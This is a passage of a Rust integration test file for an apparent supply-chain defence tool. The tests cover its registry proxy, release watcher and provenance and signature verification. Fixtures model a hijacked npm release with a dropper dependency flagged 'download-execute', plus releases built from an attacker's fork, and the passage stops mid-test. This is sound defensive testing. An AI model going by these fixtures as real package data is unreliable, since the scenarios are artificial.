/// The text of a DOM, tags dropped and entities of the page decoded, whitespace folded.
fn text_of(dom: &str) -> String {
    let mut out = String::new();
    let mut in_tag = false;
    for c in dom.chars() {
        match c {
            '<' => {
                in_tag = true;
                out.push(' ');
            }
            '>' => in_tag = false,
            c if !in_tag => out.push(c),
            _ => {}
        }
    }
    let out = out
        .replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&quot;", "\"")
        .replace("&#39;", "'")
        .replace("&amp;", "&");
    out.split_whitespace()
        .collect::<Vec<_>>()
        .join(" ")
        .replace(" ,", ",")
        .replace(" :", ":")
}

#[test]
fn two_proxies_share_one_postgres_store_and_the_web_page_shows_why() {
    let server = Loopback::start();
    npm_registry(&server);
    ms_package(&server);
    let dir = tempfile::tempdir().unwrap();
    let store = postgres_database("proxies");
    let upstream = format!("{}/npm/", server.url);
    let proxies: Vec<ProxyProcess> = ["a", "b"]
        .iter()
        .map(|n| {
            let env = vec![
                ("CUSTOMS_STORE", store.clone()),
                (
                    "CUSTOMS_CACHE_DIR",
                    dir.path().join(format!("cache-{n}")).display().to_string(),
                ),
            ];
            let d = dir.path().join(n);
            std::fs::create_dir_all(&d).unwrap();
            start_proxy(&d, &["--npm-upstream", &upstream], &env)
        })
        .collect();

    // Both replicas are asked for the hijacked release at once: one scans it (its
    // history included, so the release before it is downloaded once), the other waits
    // for the verdict in the shared store.
    let path = "/npm/webfetch/-/webfetch-1.0.1.tgz";
    let answers: Vec<(u16, Vec<u8>)> = std::thread::scope(|s| {
        let handles: Vec<_> = proxies
            .iter()
            .map(|p| s.spawn(|| fetch_url(&p.url, path)))
            .collect();
        handles.into_iter().map(|h| h.join().unwrap()).collect()
    });
    for (status, body) in &answers {
        assert_eq!(*status, 403, "{}", String::from_utf8_lossy(body));
        assert!(String::from_utf8_lossy(body).contains("customs blocked webfetch@1.0.1"));
    }
    assert_eq!(
        server.count("/npm/webfetch/-/webfetch-1.0.1.tgz"),
        1,
        "scanned once"
    );
    assert_eq!(
        server.count("/npm/webfetch/-/webfetch-1.0.0.tgz"),
        1,
        "its predecessor compared once"
    );
    // A clean release scanned by one replica is served by the other without a scan.
    let (status, body) = fetch_url(&proxies[0].url, "/npm/webfetch/-/webfetch-1.0.0.tgz");
    assert_eq!(status, 200, "{}", String::from_utf8_lossy(&body));
    let before = server.count("/npm/webfetch/-/webfetch-0.9.4.tgz");
    let (status, body) = fetch_url(&proxies[1].url, "/npm/webfetch/-/webfetch-1.0.0.tgz");
    assert_eq!(status, 200);
    assert_eq!(body, fetch(&server, "/npm/webfetch/-/webfetch-1.0.0.tgz"));
    assert_eq!(
        server.count("/npm/webfetch/-/webfetch-0.9.4.tgz"),
        before,
        "no second history scan"
    );

    // The web page, rendered by Chromium, lists both replicas' decisions.
    let index = chromium_dom(dir.path(), &format!("{}/ui/", proxies[1].url));
    let shown = text_of(&index);
    assert!(shown.contains("customs proxy"), "{shown}");
    // One line per artifact and decision: each made twice, once by each replica.
    assert_eq!(
        index.matches("class=\"decision\"").count(),
        2,
        "two refusals and two allowed downloads: {shown}"
    );
    assert_eq!(
        index.matches("<td class=\"count\">2</td>").count(),
        2,
        "{shown}"
    );
    assert!(
        shown.contains("block npm:webfetch 1.0.1 malicious"),
        "{shown}"
    );
    assert!(shown.contains("allow npm:webfetch 1.0.0 clean"), "{shown}");
    let link = index
        .split("<tr")
        .find(|row| row.contains(">1.0.1<"))
        .and_then(|row| row.split("href=\"").nth(1))
        .and_then(|s| s.split('"').next())
        .expect("a link to the refused artifact's page")
        .to_owned();
    assert!(link.starts_with("/ui/artifact/sha512:"), "{link}");
    // The refused artifact's page: its findings, with the quoted lines, and its diff.
    let page = text_of(&chromium_dom(
        dir.path(),
        &format!("{}{link}", proxies[0].url),
    ));
    assert!(page.contains("webfetch 1.0.1 (npm)"), "{page}");
    assert!(
        page.contains("Decision: block, verdict malicious"),
        "{page}"
    );
    assert!(page.contains("unused-new-dependency"), "{page}");
    assert!(page.contains("risky-new-dependency"), "{page}");
    assert!(
        page.contains("Changes since 1.0.0")
            && page.contains("+ dependency crypto-helper-js ^4.2.1"),
        "{page}"
    );
    assert!(
        page.contains("runs install scripts (postinstall)"),
        "{page}"
    );
    // The dropper itself, asked for directly: its findings quote its lines.
    let (status, _) = fetch_url(
        &proxies[0].url,
        "/npm/crypto-helper-js/-/crypto-helper-js-4.2.1.tgz",
    );
    assert_eq!(status, 403);
    let index = chromium_dom(dir.path(), &format!("{}/ui/", proxies[0].url));
    let link = index
        .split("<tr")
        .find(|row| row.contains("crypto-helper-js"))
        .and_then(|row| row.split("href=\"").nth(1))
        .and_then(|s| s.split('"').next())
        .unwrap()
        .to_owned();
    let dom = chromium_dom(dir.path(), &format!("{}{link}", proxies[1].url));
    let page = text_of(&dom);
    assert!(page.contains("download-execute"), "{page}");
    assert!(page.contains("setup.js:"), "{page}");
    assert!(
        dom.contains("<pre class=\"quote\">") && page.contains("fs.chmodSync(target, 0o755)"),
        "the quoted line: {page}"
    );
    assert!(
        page.contains("No earlier release to compare with"),
        "{page}"
    );
    let (status, _) = fetch_url(&proxies[0].url, "/ui/artifact/sha256:nothing");
    assert_eq!(status, 404);

    // Package documents are served again for --metadata-ttl (30 s by default): twenty
    // clients asking at once cost the upstream one read.
    let before = server.count("/npm/ms");
    std::thread::scope(|s| {
        for _ in 0..20 {
            s.spawn(|| assert_eq!(fetch_url(&proxies[0].url, "/npm/ms").0, 200));
        }
    });
    assert_eq!(fetch_url(&proxies[0].url, "/npm/ms").0, 200);
    assert_eq!(server.count("/npm/ms"), before + 1, "one upstream read");
}

/// An npm package with these versions (each a small clean module), released `age`
/// seconds ago each.
fn npm_releases(server: &Loopback, name: &str, versions: &[(&str, i64)]) {
    npm_releases_with(server, name, versions, |_| json!({}));
}

/// As [`npm_releases`], with `extra(version)` merged into each version's entry.
fn npm_releases_with(
    server: &Loopback,
    name: &str,
    versions: &[(&str, i64)],
    extra: impl Fn(&str) -> Value,
) {
    let now = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_secs() as i64;
    let mut docs = serde_json::Map::new();
    let mut time = serde_json::Map::new();
    for (version, age) in versions {
        let manifest = json!({"name": name, "version": version, "main": "index.js",
                              "description": "a module", "repository": "https://example.invalid/r"});
        let code = format!("module.exports = () => '{name} {version}';\n");
        let (url, tgz) = npm_version(
            server,
            name,
            version,
            &manifest,
            &[("index.js", code.as_bytes())],
        );
        let mut entry = json!({"name": name, "version": version, "dist": {"tarball": url, "integrity": sri(&tgz)}});
        if let Value::Object(more) = extra(version) {
            for (k, v) in more {
                match (entry.get_mut(&k), v) {
                    (Some(Value::Object(have)), Value::Object(add)) => have.extend(add),
                    (_, v) => {
                        entry[&k] = v;
                    }
                }
            }
        }
        docs.insert((*version).to_owned(), entry);
        time.insert((*version).to_owned(), json!(iso(now - age)));
    }
    let latest = versions.last().unwrap().0;
    let doc =
        json!({"name": name, "dist-tags": {"latest": latest}, "versions": docs, "time": time});
    server.route(
        &format!("/npm/{name}"),
        "application/json",
        serde_json::to_vec(&doc).unwrap(),
    );
}

#[test]
fn two_watch_workers_on_one_postgres_store_judge_each_release_once() {
    let server = Loopback::start();
    npm_registry(&server);
    let full: Value = serde_json::from_slice(&fetch(&server, "/npm/webfetch")).unwrap();
    only_versions(&server, "webfetch", &full, &["0.9.4", "1.0.0"]);
    let names: Vec<String> = (0..6).map(|i| format!("lib{i}")).collect();
    for n in &names {
        npm_releases(&server, n, &[("1.0.0", 90 * DAY)]);
    }
    let dir = tempfile::tempdir().unwrap();
    let store = postgres_database("watch");
    let list = dir.path().join("watch-list");
    let mut text = String::from("npm:webfetch\n");
    for n in &names {
        text.push_str(&format!("npm:{n}\n"));
    }
    std::fs::write(&list, text).unwrap();
    // Two workers, started together, each with its own cache and alert file.
    let round = || -> Vec<std::process::Output> {
        std::thread::scope(|s| {
            let handles: Vec<_> = ["a", "b"]
                .iter()
                .map(|w| {
                    let mut env = npm_env(&server, &dir.path().join(format!("cache-{w}")));
                    env.push(("CUSTOMS_STORE", store.clone()));
                    let jsonl = dir.path().join(format!("alerts-{w}.jsonl"));
                    let list = list.clone();
                    let dir = dir.path().to_owned();
                    s.spawn(move || {
                        run(
                            &dir,
                            &[
                                "watch",
                                "--watch-list",
                                list.to_str().unwrap(),
                                "--once",
                                "--worker",
                                w,
                                "--concurrency",
                                "2",
                                "--interval",
                                "2s",
                                "--alerts-jsonl",
                                jsonl.to_str().unwrap(),
                            ],
                            &env,
                        )
                    })
                })
                .collect();
            handles.into_iter().map(|h| h.join().unwrap()).collect()
        })
    };
    let polled = |outs: &[std::process::Output]| -> usize {
        outs.iter()
            .map(|o| {
                let err = String::from_utf8_lossy(&o.stderr);
                err.split("customs watch: ")
                    .nth(1)
                    .and_then(|r| r.split(' ').next())
                    .and_then(|n| n.parse::<usize>().ok())
                    .unwrap_or_else(|| panic!("{err}"))
            })
            .sum()
    };
    // The first round records the baseline; each package is polled by one worker.
    let first = round();
    for o in &first {
        assert_eq!(
            o.status.code(),
            Some(0),
            "{}",
            String::from_utf8_lossy(&o.stderr)
        );
    }
    assert_eq!(polled(&first), 7, "every package once between the two");
    // The next round, one interval later.
    std::thread::sleep(std::time::Duration::from_secs(2));

    // New releases everywhere: clean ones and the hijack.
    for n in &names {
        npm_releases(&server, n, &[("1.0.0", 90 * DAY), ("1.0.1", 3600)]);
    }
    only_versions(
        &server,
        "webfetch",
        &full,
        &["0.9.4", "1.0.0", "0.9.5", "1.0.1"],
    );
    let second = round();
    assert_eq!(polled(&second), 7);
    let alerts: Vec<String> = ["a", "b"]
        .iter()
        .flat_map(|w| {
            std::fs::read_to_string(dir.path().join(format!("alerts-{w}.jsonl")))
                .unwrap_or_default()
                .lines()
                .map(str::to_owned)
                .collect::<Vec<_>>()
        })
        .collect();
    assert_eq!(alerts.len(), 2, "0.9.5 and 1.0.1, once each: {alerts:?}");
    let codes: Vec<Option<i32>> = second.iter().map(|o| o.status.code()).collect();
    assert!(
        codes.contains(&Some(1)),
        "the worker that alerted says so: {codes:?}"
    );
    // Each new release was downloaded (so judged) once, by one of the two.
    for n in &names {
        assert_eq!(server.count(&format!("/npm/{n}/-/{n}-1.0.1.tgz")), 1, "{n}");
    }
    assert_eq!(server.count("/npm/webfetch/-/webfetch-1.0.1.tgz"), 1);
    let mut client = postgres::Client::connect(&store, postgres::NoTls).unwrap();
    let rows = client
        .query(
            "SELECT package, version, worker FROM release_scan ORDER BY 1, 2",
            &[],
        )
        .unwrap();
    assert_eq!(rows.len(), 8, "six clean releases and two hijacked ones");
    let workers: std::collections::BTreeSet<String> =
        rows.iter().map(|r| r.get::<_, String>(2)).collect();
    assert!(workers.iter().all(|w| w == "a" || w == "b"), "{workers:?}");

    // Another round: nothing new, nothing repeated.
    std::thread::sleep(std::time::Duration::from_secs(2));
    let third = round();
    assert_eq!(polled(&third), 7);
    for o in &third {
        assert_eq!(
            o.status.code(),
            Some(0),
            "{}",
            String::from_utf8_lossy(&o.stderr)
        );
    }
}

/// A PyPI project of clean sdists whose releases carry PEP 740 provenance from the
/// given repositories (`None`: no provenance).
fn pypi_with_provenance(server: &Loopback, name: &str, releases: &[(&str, i64, Option<&str>)]) {
    let mut files = Vec::new();
    for (version, at, repository) in releases {
        let pkg_info = format!(
            "Metadata-Version: 2.1\nName: {name}\nVersion: {version}\nSummary: helpers\nHome-page: https://example.invalid/{name}\n"
        );
        let init = format!("def version():\n    return {version:?}\n");
        let body = tar_gz_of(
            &[
                ("PKG-INFO", pkg_info.as_bytes()),
                (&format!("{name}/__init__.py"), init.as_bytes()),
            ],
            &format!("{name}-{version}/"),
        );
        let file = format!("{name}-{version}.tar.gz");
        server.route(
            &format!("/files/{file}"),
            "application/octet-stream",
            body.clone(),
        );
        let mut entry = json!({
            "filename": file, "url": format!("/files/{file}"),
            "hashes": {"sha256": hex::encode(Sha256::digest(&body))},
            "upload-time": iso(*at), "provenance": null,
        });
        if let Some(repo) = repository {
            let url = format!("/integrity/{name}/{version}/{file}/provenance");
            server.route(&url, "application/json", serde_json::to_vec(&json!({
                "version": 1,
                "attestation_bundles": [{"publisher": {"kind": "GitHub", "repository": repo, "workflow": "release.yml"}, "attestations": []}]
            })).unwrap());
            entry["provenance"] = json!(url);
        }
        files.push(entry);
    }
    let page = json!({"meta": {"api-version": "1.1"}, "name": name, "files": files});
    server.route(
        &format!("/simple/{name}/"),
        "application/vnd.pypi.simple.v1+json",
        serde_json::to_vec(&page).unwrap(),
    );
}

#[test]
fn watch_own_packages_against_their_pinned_build_identity() {
    let server = Loopback::start();
    // `ownpin` is pinned on first use (from 1.0); `ownlisted` in the watch list.
    pypi_with_provenance(
        &server,
        "ownpin",
        &[("1.0", T0 - 60 * DAY, Some("octo/ownpin"))],
    );
    pypi_with_provenance(
        &server,
        "ownlisted",
        &[("1.0", T0 - 60 * DAY, Some("octo/ownlisted"))],
    );
    let dir = tempfile::tempdir().unwrap();
    let env = vec![
        ("PIP_INDEX_URL", format!("{}/simple/", server.url)),
        (
            "CUSTOMS_CACHE_DIR",
            dir.path().join("cache").display().to_string(),
        ),
        (
            "CUSTOMS_STORE",
            dir.path().join("store.sqlite3").display().to_string(),
        ),
    ];
    let list = dir.path().join("watch.txt");
    std::fs::write(
        &list,
        "own pypi:ownpin\nown pypi:ownlisted repository=octo/release-bot workflow=.github/workflows/release.yml\n",
    )
    .unwrap();
    let watch = || {
        std::thread::sleep(std::time::Duration::from_secs(1));
        run(
            dir.path(),
            &[
                "watch",
                "--watch-list",
                list.to_str().unwrap(),
                "--interval",
                "1s",
                "--once",
            ],
            &env,
        )
    };
    let out = watch();
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );

    // Clean code, new releases: ownpin's from a fork, ownlisted's from the repository
    // that built 1.0 — which is not the one the watch list pins.
    pypi_with_provenance(
        &server,
        "ownpin",
        &[
            ("1.0", T0 - 60 * DAY, Some("octo/ownpin")),
            ("1.1", T0, Some("mallory/ownpin")),
        ],
    );
    pypi_with_provenance(
        &server,
        "ownlisted",
        &[
            ("1.0", T0 - 60 * DAY, Some("octo/ownlisted")),
            ("1.1", T0, Some("octo/ownlisted")),
        ],
    );
    let out = watch();
    let text = stdout(&out);
    assert_eq!(
        out.status.code(),
        Some(1),
        "{text}{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        text.contains("ALERT pypi:ownpin 1.1")
            && text.contains("built by mallory/ownpin release.yml, not by the pinned octo/ownpin release.yml (pinned on first use from 1.0)"),
        "{text}"
    );
    assert!(
        text.contains("ALERT pypi:ownlisted 1.1")
            && text.contains(
                "not by the pinned octo/release-bot .github/workflows/release.yml (pinned in"
            ),
        "{text}"
    );

    // A third release built as pinned again: no pin alert (the history rule still says
    // that the build changed since 1.1).
    pypi_with_provenance(
        &server,
        "ownpin",
        &[
            ("1.0", T0 - 60 * DAY, Some("octo/ownpin")),
            ("1.1", T0, Some("mallory/ownpin")),
            ("1.2", T0 + DAY, Some("octo/ownpin")),
        ],
    );
    let out = watch();
    let text = stdout(&out);
    assert!(text.contains("ALERT pypi:ownpin 1.2"), "{text}");
    assert!(!text.contains("not by the pinned"), "{text}");

    // A bad watch list line is a clear error.
    std::fs::write(&list, "own pypi:ownpin branch=main\n").unwrap();
    let out = watch();
    assert_eq!(out.status.code(), Some(2));
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("watch.txt:1"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

/// An npm package whose releases' attestations documents hold a SLSA provenance
/// statement built from `repository` at `git_ref`.
fn npm_attested(server: &Loopback, name: &str, releases: &[(&str, i64, &str, &str)]) {
    let versions: Vec<(&str, i64)> = releases.iter().map(|r| (r.0, r.1)).collect();
    npm_releases_with(server, name, &versions, |version| {
        let (_, _, repository, git_ref) = releases.iter().find(|r| r.0 == version).unwrap();
        let statement = json!({
            "_type": "https://in-toto.io/Statement/v1",
            "subject": [{"name": format!("pkg:npm/{name}@{version}"), "digest": {"sha512": "00"}}],
            "predicateType": "https://slsa.dev/provenance/v1",
            "predicate": {"buildDefinition": {
                "buildType": "https://slsa-framework.github.io/github-actions-buildtypes/workflow/v1",
                "externalParameters": {"workflow": {"ref": git_ref,
                    "repository": format!("https://github.com/{repository}"),
                    "path": ".github/workflows/release.yml"}},
                "resolvedDependencies": [{"digest": {"gitCommit": "0123abcd"}}]}}
        });
        let attestations = json!({"attestations": [{"predicateType": "https://slsa.dev/provenance/v1",
            "bundle": {"dsseEnvelope": {"payloadType": "application/vnd.in-toto+json",
                "payload": base64::engine::general_purpose::STANDARD.encode(statement.to_string())}}}]});
        let path = format!("/npm/-/npm/v1/attestations/{name}@{version}");
        server.route(
            &path,
            "application/json",
            serde_json::to_vec(&attestations).unwrap(),
        );
        json!({"_npmUser": {"name": "alice"},
               "dist": {"attestations": {"url": format!("{}{path}", server.url),
                                         "provenance": {"predicateType": "https://slsa.dev/provenance/v1"}}}})
    });
}

#[test]
fn watch_own_npm_package_built_from_its_tags() {
    let server = Loopback::start();
    npm_attested(
        &server,
        "tagged",
        &[("1.0.0", 60 * DAY, "octo/tagged", "refs/tags/v1.0.0")],
    );
    let dir = tempfile::tempdir().unwrap();
    let mut env = npm_env(&server, &dir.path().join("cache"));
    env.push((
        "CUSTOMS_STORE",
        dir.path().join("store.sqlite3").display().to_string(),
    ));
    let watch = || {
        std::thread::sleep(std::time::Duration::from_secs(1));
        run(
            dir.path(),
            &["watch", "--own", "npm:tagged", "--interval", "1s", "--once"],
            &env,
        )
    };
    assert_eq!(watch().status.code(), Some(0));
    // Built by the pinned repository and workflow, from its tag: quiet.
    npm_attested(
        &server,
        "tagged",
        &[
            ("1.0.0", 60 * DAY, "octo/tagged", "refs/tags/v1.0.0"),
            ("1.0.1", 30 * DAY, "octo/tagged", "refs/tags/v1.0.1"),
        ],
    );
    let out = watch();
    assert_eq!(out.status.code(), Some(0), "{}", stdout(&out));
    // The same repository and workflow, but from a branch: an alert.
    npm_attested(
        &server,
        "tagged",
        &[
            ("1.0.0", 60 * DAY, "octo/tagged", "refs/tags/v1.0.0"),
            ("1.0.1", 30 * DAY, "octo/tagged", "refs/tags/v1.0.1"),
            ("1.0.2", DAY, "octo/tagged", "refs/heads/main"),
        ],
    );
    let out = watch();
    let text = stdout(&out);
    assert_eq!(out.status.code(), Some(1), "{text}");
    assert!(
        text.contains("ALERT npm:tagged 1.0.2")
            && text.contains("built from refs/heads/main, not from a tag of 1.0.2"),
        "{text}"
    );
}

/// `customs verify` of registry releases: the real `sigstore@3.1.0` tarball and its public
/// provenance bundle (tests/provenance), served as the npm registry serves them; a
/// release of a project that publishes provenance but not for it (absent); one of a
/// project that never says (unknown, as on mirrors); and a swapped tarball.
#[test]
fn verify_registry_releases_offline() {
    let server = Loopback::start();
    let tgz = std::fs::read(root().join("tests/provenance/sigstore-3.1.0.tgz")).unwrap();
    let bundle: Value = serde_json::from_slice(
        &std::fs::read(root().join("tests/provenance/sigstore-3.1.0.sigstore.json")).unwrap(),
    )
    .unwrap();
    server.route(
        "/npm/sigstore/-/sigstore-3.1.0.tgz",
        "application/octet-stream",
        tgz.clone(),
    );
    server.route(
        "/npm/sigstore/-/sigstore-3.0.0.tgz",
        "application/octet-stream",
        tgz.clone(),
    );
    server.route(
        "/npm/-/npm/v1/attestations/sigstore@3.1.0",
        "application/json",
        serde_json::to_vec(&json!({"attestations": [
            {"predicateType": "https://slsa.dev/provenance/v1", "bundle": bundle}
        ]}))
        .unwrap(),
    );
    let doc = json!({
        "name": "sigstore", "dist-tags": {"latest": "3.1.0"},
        "versions": {
            "3.1.0": {"name": "sigstore", "version": "3.1.0", "dist": {
                "tarball": format!("{}/npm/sigstore/-/sigstore-3.1.0.tgz", server.url),
                "integrity": sri(&tgz),
                "attestations": {"url": format!("{}/npm/-/npm/v1/attestations/sigstore@3.1.0", server.url),
                                 "provenance": {"predicateType": "https://slsa.dev/provenance/v1"}}}},
            "3.0.0": {"name": "sigstore", "version": "3.0.0", "dist": {
                "tarball": format!("{}/npm/sigstore/-/sigstore-3.0.0.tgz", server.url),
                "integrity": sri(b"another tarball")}}
        },
        "time": {"3.0.0": iso(T0 - DAY), "3.1.0": iso(T0)}
    });
    server.route(
        "/npm/sigstore",
        "application/json",
        serde_json::to_vec(&doc).unwrap(),
    );
    npm_releases(&server, "plain", &[("1.0.0", DAY)]);
    let dir = tempfile::tempdir().unwrap();
    let env = npm_env(&server, &dir.path().join("cache"));
    let out = run(
        dir.path(),
        &[
            "verify",
            "npm:sigstore@3.1.0",
            "npm:plain@1.0.0",
            "--format",
            "json",
        ],
        &env,
    );
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}{}",
        stdout(&out),
        String::from_utf8_lossy(&out.stderr)
    );
    let v = json_of(&out);
    let p = &v["packages"][0];
    assert_eq!(p["name"], "sigstore");
    assert_eq!(p["integrity"]["status"], "verified");
    assert_eq!(p["integrity"]["algorithm"], "sha512");
    assert_eq!(p["provenance"]["status"], "verified", "{p}");
    assert_eq!(p["provenance"]["repository"], "sigstore/sigstore-js");
    assert_eq!(p["provenance"]["workflow"], ".github/workflows/release.yml");
    assert_eq!(p["provenance"]["log_index"], 168_704_762);
    assert_eq!(v["packages"][1]["provenance"]["status"], "unknown");

    // 3.0.0: the project publishes provenance, this release has none; and its bytes are
    // not the ones the index lists.
    let out = run(
        dir.path(),
        &["verify", "npm:sigstore@3.0.0", "--format", "json"],
        &env,
    );
    assert_eq!(out.status.code(), Some(1), "{}", stdout(&out));
    let v = json_of(&out);
    let p = &v["packages"][0];
    assert_eq!(p["provenance"]["status"], "absent");
    assert_eq!(p["integrity"]["status"], "mismatch");
    assert!(
        p["integrity"]["reason"]
            .as_str()
            .unwrap()
            .contains("the index lists")
    );

    // `scan` verifies the provenance the index publishes too: verified here...
    let out = run(
        dir.path(),
        &[
            "scan",
            "npm:sigstore@3.1.0",
            "--no-history",
            "--format",
            "json",
        ],
        &env,
    );
    let v = json_of(&out);
    let source = &v["packages"][0]["source"];
    assert_eq!(source["provenance"]["status"], "verified", "{source}");
    assert_eq!(source["provenance"]["repository"], "sigstore/sigstore-js");
    assert!(findings(&v["packages"][0], "provenance-invalid").is_empty());
    // With history, the release's builder and its verification share one read of the
    // attestations document (read again: not the kept copy, nor the kept judgement).
    let attestations = "/npm/-/npm/v1/attestations/sigstore@3.1.0";
    let before = server.count(attestations);
    let out = run(
        dir.path(),
        &[
            "scan",
            "npm:sigstore@3.1.0",
            "--format",
            "json",
            "--refresh",
            "--rejudge",
        ],
        &env,
    );
    let v = json_of(&out);
    assert_eq!(
        v["packages"][0]["source"]["provenance"]["status"],
        "verified"
    );
    assert_eq!(
        v["packages"][0]["history"]["builder"]["repository"], "sigstore/sigstore-js",
        "the history read the builder from the same document"
    );
    assert_eq!(server.count(attestations), before + 1, "one read");
    // ...and, for the same bundle published with another tarball, a critical finding.
    let forged = tar_gz_of(
        &[(
            "package.json",
            br#"{"name": "sigstore", "version": "3.1.0", "main": "index.js"}"#.as_slice(),
        )],
        "package/",
    );
    server.route(
        "/npm/sigstore/-/sigstore-3.1.0.tgz",
        "application/octet-stream",
        forged.clone(),
    );
    let mut forged_doc = doc.clone();
    forged_doc["versions"]["3.1.0"]["dist"]["integrity"] = json!(sri(&forged));
    server.route(
        "/npm/sigstore",
        "application/json",
        serde_json::to_vec(&forged_doc).unwrap(),
    );
    let fresh = tempfile::tempdir().unwrap();
    let env2 = npm_env(&server, &fresh.path().join("cache"));
    let out = run(
        fresh.path(),
        &[
            "scan",
            "npm:sigstore@3.1.0",
            "--no-history",
            "--format",
            "json",
        ],
        &env2,
    );
    let v = json_of(&out);
    assert!(
        v["packages"][0].is_object(),
        "{}{}",
        stdout(&out),
        String::from_utf8_lossy(&out.stderr)
    );
    let f = findings(&v["packages"][0], "provenance-invalid");
    assert!(f.iter().any(|m| m.contains("subject digest")), "{f:?}");
    assert_eq!(v["packages"][0]["source"]["provenance"]["status"], "failed");
    assert_eq!(
        out.status.code(),
        Some(1),
        "critical: the verdict is malicious"
    );
    server.route(
        "/npm/sigstore/-/sigstore-3.1.0.tgz",
        "application/octet-stream",
        tgz.clone(),
    );
    server.route(
        "/npm/sigstore",
        "application/json",
        serde_json::to_vec(&doc).unwrap(),
    );

    // A lockfile as the source: each package it pins, checked against its hashes too.
    let project = dir.path().join("app");
    npm_project(&project, &[("sigstore", "3.1.0", sri(&tgz), true, &[])]);
    let lock = project.join("package-lock.json");
    let out = run(
        dir.path(),
        &["verify", lock.to_str().unwrap(), "--format", "json"],
        &env,
    );
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}{}",
        stdout(&out),
        String::from_utf8_lossy(&out.stderr)
    );
    let v = json_of(&out);
    let p = &v["packages"][0];
    assert_eq!(p["integrity"]["lockfile"]["status"], "verified", "{p}");
    assert_eq!(p["provenance"]["status"], "verified");
    assert!(
        p["target"].as_str().unwrap().contains("package-lock.json:"),
        "{p}"
    );
    npm_project(
        &project,
        &[("sigstore", "3.1.0", sri(b"other bytes"), true, &[])],
    );
    let out = run(
        dir.path(),
        &["verify", lock.to_str().unwrap(), "--format", "json"],
        &env,
    );
    assert_eq!(out.status.code(), Some(1), "{}", stdout(&out));
    assert_eq!(
        json_of(&out)["packages"][0]["integrity"]["lockfile"]["status"],
        "mismatch"
    );

    // Pinned to another repository: failed, exit 1, the reason says why.
    let out = run(
        dir.path(),
        &[
            "verify",
            "npm:sigstore@3.1.0",
            "--repository",
            "mallory/sigstore-js",
        ],
        &env,
    );
    assert_eq!(out.status.code(), Some(1));
    assert!(
        stdout(&out).contains("provenance FAILED: the identity is not the pinned one"),
        "{}",
        stdout(&out)
    );
}

/// npm registry signatures (`dist.signatures`, checked like `npm audit signatures`), with
/// a registry key of the test's own served at `/-/npm/v1/keys`.
#[test]
fn verify_npm_registry_signatures() {
    use p256::ecdsa::signature::Signer as _;
    let server = Loopback::start();
    let signing = p256::ecdsa::SigningKey::from_slice(&[7u8; 32]).unwrap();
    let point = signing.verifying_key().to_sec1_point(false);
    // SubjectPublicKeyInfo for a P-256 key: the fixed prefix, then the point.
    let mut spki = hex::decode("3059301306072a8648ce3d020106082a8648ce3d030107034200").unwrap();
    spki.extend_from_slice(point.as_bytes());
    server.route(
        "/npm/-/npm/v1/keys",
        "application/json",
        serde_json::to_vec(&json!({"keys": [{"expires": null, "keyid": "SHA256:test",
            "keytype": "ecdsa-sha2-nistp256", "scheme": "ecdsa-sha2-nistp256",
            "key": base64::engine::general_purpose::STANDARD.encode(&spki)}]}))
        .unwrap(),
    );
    npm_releases_with(
        &server,
        "signed",
        &[("1.0.0", 2 * DAY), ("1.0.1", DAY)],
        |version| {
            let tgz = fetch(&server, &format!("/npm/signed/-/signed-{version}.tgz"));
            // 1.0.1's signature is of another integrity: the registry never signed these bytes.
            let integrity = if version == "1.0.0" {
                sri(&tgz)
            } else {
                sri(b"other")
            };
            let sig: p256::ecdsa::Signature =
                signing.sign(format!("signed@{version}:{integrity}").as_bytes());
            json!({"dist": {"signatures": [{"keyid": "SHA256:test",
            "sig": base64::engine::general_purpose::STANDARD.encode(sig.to_der().as_bytes())}]}})
        },
    );
    let dir = tempfile::tempdir().unwrap();
    let env = npm_env(&server, &dir.path().join("cache"));
    let out = run(
        dir.path(),
        &["verify", "npm:signed@1.0.0", "--format", "json"],
        &env,
    );
    assert_eq!(out.status.code(), Some(0), "{}", stdout(&out));
    let v = json_of(&out);
    let rs = &v["packages"][0]["integrity"]["registry_signature"];
    assert_eq!(rs["status"], "verified", "{rs}");
    assert_eq!(rs["keyid"], "SHA256:test");

    let out = run(dir.path(), &["verify", "npm:signed@1.0.1"], &env);
    assert_eq!(out.status.code(), Some(1), "{}", stdout(&out));
    assert!(
        stdout(&out).contains("registry signature failed — the registry signature of signed@1.0.1"),
        "{}",
        stdout(&out)
    );
}

/// The proxy holds releases to a build identity: pinned on first use (in the store) from
/// the first release seen with provenance, or in the policy file; a release built
/// elsewhere is refused, unless the policy exempts it.
#[test]
fn proxy_pins_build_identities() {
    let server = Loopback::start();
    pypi_with_provenance(
        &server,
        "pinned",
        &[
            ("1.0", T0 - 60 * DAY, Some("octo/pinned")),
            ("1.1", T0, Some("mallory/pinned")),
        ],
    );
    for name in ["listed", "strict"] {
        let (octo, mallory) = (format!("octo/{name}"), format!("mallory/{name}"));
        pypi_with_provenance(
            &server,
            name,
            &[
                ("1.0", T0 - 60 * DAY, Some(octo.as_str())),
                ("1.1", T0, Some(mallory.as_str())),
            ],
        );
    }
    let dir = tempfile::tempdir().unwrap();
    let policy = dir.path().join("customs.toml");
    std::fs::write(
        &policy,
        "pin_on_first_use = true\nprovenance_exempt = [\"pypi:listed==1.1\"]\n\n[[pin]]\npackage = \"pypi:listed\"\nrepository = \"octo/listed\"\nworkflow = \"release.yml\"\n\n[[pin]]\npackage = \"pypi:strict\"\nrepository = \"octo/strict\"\n",
    )
    .unwrap();
    let env = store_and_cache(dir.path());
    let upstream = format!("{}/simple", server.url);
    let proxy = start_proxy(
        dir.path(),
        &[
            "--pypi-upstream",
            &upstream,
            "--policy",
            policy.to_str().unwrap(),
        ],
        &env,
    );
    let get = |path: &str| fetch_url(&proxy.url, path);
    assert_eq!(
        get("/pypi/files/pinned/pinned-1.0.tar.gz").0,
        200,
        "pins octo/pinned"
    );
    let (status, body) = get("/pypi/files/pinned/pinned-1.1.tar.gz");
    assert_eq!(status, 403);
    let body = String::from_utf8_lossy(&body);
    assert!(
        body.contains(
            "built by mallory/pinned release.yml, not by the pinned octo/pinned release.yml"
        ),
        "{body}"
    );
    // The policy's own pin, and an exemption for one release.
